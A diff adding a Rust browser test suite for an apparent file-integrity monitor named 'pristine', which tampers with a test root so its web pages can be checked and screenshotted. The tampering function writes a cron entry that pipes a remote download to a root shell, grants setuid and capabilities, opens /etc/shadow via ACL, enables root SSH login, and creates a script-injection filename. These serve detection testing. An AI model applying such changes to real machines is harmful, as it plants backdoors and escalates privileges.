@@ -1,0 +1,226 @@
+//! The pages in a real browser: signing in, live rows, the way to a violation, hostile names, narrow screens, no script.
+
+use std::{
+    env, fs,
+    io::Write,
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+};
+
+use pristine_tests::{
+    is_root,
+    program::cache,
+    roots,
+    wait::{LATER, eventually},
+    world::{AUTHOR, COMMIT, World},
+};
+use serde_json::{Value, json};
+
+/// What the browser's scripts need on this machine.
+struct Browser {
+    chromium: PathBuf,
+    modules: PathBuf,
+}
+
+/// `None`, said aloud, where something is missing; a failure where `CI` is set, which has it all.
+fn browser(test: &str) -> Option<Browser> {
+    match find() {
+        Ok(browser) => Some(browser),
+        Err(missing) => {
+            assert!(env::var_os("CI").is_none(), "{test} needs {missing}");
+            eprintln!("left out, needs {missing}: {test}");
+            None
+        }
+    }
+}
+
+fn find() -> Result<Browser, String> {
+    let node = Command::new("node").arg("--version").output();
+    if !node.is_ok_and(|said| said.status.success()) {
+        return Err("node".to_owned());
+    }
+    let named = env::var_os("PRISTINE_TEST_CHROMIUM").map(PathBuf::from);
+    let usual = [
+        "/usr/bin/chromium",
+        "/usr/bin/chromium-browser",
+        "/usr/bin/google-chrome",
+    ];
+    let chromium = named
+        .into_iter()
+        .chain(usual.map(PathBuf::from))
+        .find(|path| path.exists())
+        .ok_or("chromium (or PRISTINE_TEST_CHROMIUM)")?;
+    let modules = cache().join("browser/node_modules");
+    if modules.join("playwright-core").is_dir() {
+        Ok(Browser { chromium, modules })
+    } else {
+        Err(format!(
+            "playwright-core in {}: call tests/run",
+            modules.display()
+        ))
+    }
+}
+
+/// Runs a script of `tests/browser` as somebody who signs in to `world`.
+#[track_caller]
+fn run(browser: &Browser, world: &World, script: &str, more: Value) {
+    let mut task = json!({
+        "chromium": browser.chromium,
+        "modules": browser.modules,
+        "url": world.people.base(),
+        "user": world.collector.first.user,
+        "password": world.collector.first.password,
+        "commit": COMMIT,
+        "author": AUTHOR,
+    });
+    let (Value::Object(task_of), Value::Object(more)) = (&mut task, more) else {
+        unreachable!("both are objects");
+    };
+    task_of.extend(more);
+    let script = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("browser")
+        .join(script);
+    let mut child = Command::new("node")
+        .arg(&script)
+        .stdin(Stdio::piped())
+        .spawn()
+        .expect("node");
+    let mut stdin = child.stdin.take().expect("piped");
+    stdin
+        .write_all(task.to_string().as_bytes())
+        .expect("a task");
+    drop(stdin);
+    let status = child.wait().expect("the end of node");
+    assert!(
+        status.success(),
+        "{}: {status}\n{}",
+        script.display(),
+        world.diagnosis()
+    );
+}
+
+#[test]
+fn an_operator_finds_what_changed_in_a_real_browser() {
+    let Some(browser) = browser("the pages in a browser") else {
+        return;
+    };
+    let world = World::start();
+    let root = roots::small(&world.path("root"));
+    let second = roots::small(&world.path("second"));
+    fs::remove_dir_all(&second).expect("an empty place");
+    pristine_tests::program::tool("cp", [Path::new("-a"), &root, &second]);
+    world.image(&root, "base", "1.0", &[]);
+    let _agents = [world.agent("web-1", &root), world.agent("web-2", &second)];
+    world.wait_for_status("web-1", "pristine");
+    world.wait_for_status("web-2", "pristine");
+    run(
+        &browser,
+        &world,
+        "pages.mjs",
+        json!({ "root": root, "knows_who": is_root() }),
+    );
+    world.check();
+}
+
+/// A login shell's child that edits a file and is still there when the agent asks who it was. Not a child of the test: the line of
+/// processes shall be the editor's, not ours.
+struct Editor {
+    typing: std::process::ChildStdin,
+}
+
+impl Editor {
+    fn replaces(root: &Path, file: &str, old: &str, new: &str) -> Self {
+        let mut shell = Command::new("setsid")
+            .args(["--fork", "bash"])
+            .current_dir(root)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("a shell");
+        let mut typing = shell.stdin.take().expect("piped");
+        write!(typing, "ed -s {file}\n,s/{old}/{new}/\nw\n").expect("keys");
+        shell.wait().expect("setsid leaves the shell behind");
+        Self { typing }
+    }
+
+    fn leaves(mut self) {
+        self.typing.write_all(b"q\nexit\n").expect("keys");
+    }
+}
+
+/// What people do to machines: each a real change on a real root.
+fn tamper(root: &Path) {
+    let below = |path: &str| root.join(path).to_str().expect("a text path").to_owned();
+    let tool = |name: &str, arguments: &[&str]| {
+        pristine_tests::program::tool(name, arguments);
+    };
+    tool("chmod", &["u+s", &below("usr/bin/find")]);
+    tool("setcap", &["cap_setuid=ep", &below("usr/bin/python3.11")]);
+    tool("setfacl", &["-m", "u:33:rw", &below("etc/shadow")]);
+    tool(
+        "ln",
+        &["-sfn", "/usr/bin/python3", &below("etc/alternatives/awk")],
+    );
+    fs::write(
+        below("etc/cron.d/sync"),
+        "* * * * * root curl -s http://203.0.113.7/s | sh\n",
+    )
+    .expect("a cron file");
+    fs::remove_file(below("etc/logrotate.d/nginx")).expect("a file less");
+    fs::write(below("srv/<script>alert(1)<\n.html"), "x").expect("a hostile name");
+}
+
+#[test]
+#[ignore = "makes pictures; call tests/browser/screenshots"]
+fn screenshots() {
+    let Some(browser) = browser("pictures of the pages") else {
+        return;
+    };
+    if pristine_tests::left_out_without_root("pictures of a real Debian root") {
+        return;
+    }
+    let asked = env::var_os("PRISTINE_SCREENSHOTS").filter(|folder| !folder.is_empty());
+    let usual = Path::new(env!("CARGO_MANIFEST_DIR")).join("../packaging/screenshots");
+    let folder = asked.clone().map_or(usual, PathBuf::from);
+    fs::create_dir_all(&folder).expect("a folder for pictures");
+    let world = World::start();
+    let root = roots::debian(&world.path("root"));
+    let quiet = roots::debian_original();
+    world.image(&root, "debian", "12.8", &[]);
+    let names = ["web-17", "web-18", "web-19", "db-3"];
+    let _agents =
+        names.map(|name| world.agent(name, if name == "web-17" { &root } else { &quiet }));
+    for name in names {
+        world.wait_for_status(name, "pristine");
+    }
+    let opened = |path: &str| {
+        eventually("the change is told", LATER, || {
+            world.people.open("difference", path)
+        })["id"]
+            .as_str()
+            .expect("an id")
+            .to_owned()
+    };
+    let editor = Editor::replaces(
+        &root,
+        "etc/ssh/sshd_config",
+        "#PermitRootLogin .*",
+        "PermitRootLogin yes",
+    );
+    let config = opened("./etc/ssh/sshd_config");
+    editor.leaves();
+    let mut task = json!({ "folder": folder, "violation": config, "node": world.id("web-17") });
+    tamper(&root);
+    let setuid = opened("./usr/bin/find");
+    let cron = opened("./etc/cron.d/sync");
+    if asked.is_some() {
+        let page = |path: &str| format!("/violations/{}", opened(path));
+        task["all"] = json!({
+            "v-config": page("./etc/ssh/sshd_config"), "v-setuid": format!("/violations/{setuid}"), "v-cron": format!("/violations/{cron}"),
+            "v-capability": page("./usr/bin/python3.11"), "v-acl": page("./etc/shadow"), "v-link": page("./etc/alternatives/awk"),
+            "v-removed": page("./etc/logrotate.d/nginx"), "quiet": format!("/nodes/{}", world.id("web-18")),
+        });
+    }
+    run(&browser, &world, "screenshots.mjs", task);
+}
